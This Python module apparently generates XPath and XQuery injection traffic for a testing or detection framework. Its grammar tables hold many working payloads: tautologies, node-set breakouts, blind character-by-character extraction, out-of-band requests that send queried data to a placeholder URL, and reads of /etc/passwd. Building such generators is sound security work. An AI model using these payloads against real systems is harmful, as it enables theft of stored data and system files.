"""XPath and XQuery injection: tautologies, node axes, blind functions (XPath 1.0 and 2.0)."""

from traffic.grammars.attacks.pieces import Grammar, Symbols, after_value

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "n0": (
        "user", "users", "username", "password", "account", "‹id›", "*", "‹id›/‹id›", "employee",
        "node()", "text()", "@id", "@*",
    ),
    "q": ("'", "'", "'", '"'),
    "ax": (
        "child::", "parent::", "ancestor::", "descendant-or-self::", "following-sibling::",
        "attribute::", "preceding::", "self::",
    ),
    "fn": (
        "count(//‹n0›)", "count(/child::node())", "string-length(name(/*[1]))",
        "string-length(//‹n0›[‹d›]/text())", "substring(name(/*[1]),‹d›,1)",
        "substring(//‹n0›[position()=‹d›]/child::node()[position()=‹d›],‹d›,1)", "name(parent::*)",
        "string(//‹n0›)", "local-name(/*[‹d›])", "position()", "last()", "count(../@*)",
        "name(//‹n0›[‹d›])", "normalize-space(//‹n0›)",
    ),
    "cmp": ("=", "=", "!=", "<", ">", ">="),
    "t": (
        "‹fn›‹cmp›‹n›", "‹fn›='‹abc›'", "contains(name,'‹abc›')", "starts-with(//‹n0›,'‹abc›')",
        "//‹n0›", "not(//‹n0›='‹rnd›')", "name()='‹id›'", "‹ax›‹n0›='‹abc›'",
        "contains(//‹n0›,'‹abc›')", "string-length(name())>‹d›", "string-length(//‹n0›)>‹d›",
        "boolean(//‹n0›)", "doc('‹url›')", "matches(//‹n0›,'‹abc›.*')",
    ),
    "join": ("or", "or", "and", "OR", "And"),
}
_GRAMMAR = Grammar(_SYMBOLS)
_BEHIND = Grammar(_SYMBOLS, finish=after_value(0.45))

RULES = {
    **_BEHIND.rules(
        condition=(
            "‹q#1› ‹join› ‹t› ‹join› ‹q#1›‹abc#1›‹q#1›=‹q#1›‹abc#1›", "‹q› ‹join› ‹t›]",
            "' ‹join› ‹fn›‹cmp›‹n› ‹join› 'a'='a", "') ‹join› ‹t› ‹join› ('‹abc#1›'='‹abc#1›",
            "'] ‹join› ‹t›[‹d›='‹d›", "' ‹join› //‹n0›[contains(.,'‹abc›')] ‹join› '‹abc›'='",
        ),
        node_set=(
            "']|//‹n0›|//‹n0›['", "'] | //‹n0› | a['", "')]|//‹n0›[(('", "']/../‹ax›*|/‹n0›['",
            "' or 1]/‹ax›node()|//*['", "'] | /* | /foo[bar='‹abc?›",
            "')] | //‹n0›[contains(‹n0›,'", "x'] | //*[name()='‹id›", "'|/‹n0›|'",
            "']/parent::*/‹ax›‹n0›['1'='1",
        ),
        blind=(
            "' and ‹fn›='‹abc›' and '1'='1", "' and ‹fn›‹cmp›‹n› and '‹abc#1›'='‹abc#1›",
            "' or ‹fn›‹cmp›‹n› or 'x'='y", " and ‹fn›=‹n›",
            "' and substring(//‹n0›,‹d›,1)=codepoints-to-string(‹n›)",
            "' and string-to-codepoints(‹fn›)‹cmp›‹n› and '1", "') and ‹fn›‹cmp›‹n› and ('1'='1",
        ),
        number=(
            " or ‹fn›‹cmp›‹n›", " and ‹fn›‹cmp›‹n›", "] | //‹n0›[1", " or name(/*)='‹id›' or 1=‹n›",
            ") or ‹t› or (1=1",
        ),
        out_of_band=(
            "' and doc(concat('‹url›/',//‹n0›))='", "'] | doc('‹url›')/‹id›['",
            "' and unparsed-text('file:///etc/‹passwd¦hosts›')='", "') and document('‹url›')/*",
            "' or doc-available('‹url›/‹id›') or '",
        ),
    ),
    **_GRAMMAR.rules(
        whole_path=(
            "//‹n0›[‹t›]", "//‹n0›/‹ax›‹n0›|//‹n0›", "//*[‹t›]", "/‹ax›node()/‹ax›‹n0›",
            "//‹n0›[position()=‹n›]/text()", "/*[‹d›]/*[‹n›]/text()", "count(//‹n0›)=‹n› or ‹t›",
            "//‹n0›[‹d›]/@*", "//‹id›[‹t›]/password",
        ),
        xquery=(
            "for $‹abc#1› in //‹n0› return $‹abc#1›",
            "let $‹abc#1› := doc('‹url›') return $‹abc#1›//‹n0›", "') return //‹n0› (:‹rnd›",
            "'} return {//‹n0›} {'", "xdmp:document-get('file:///etc/‹passwd¦‹id››')",
            "declare variable $‹abc› external; doc('/etc/‹passwd¦‹id››')", "fn:doc('‹url›')",
        ),
    ),
}
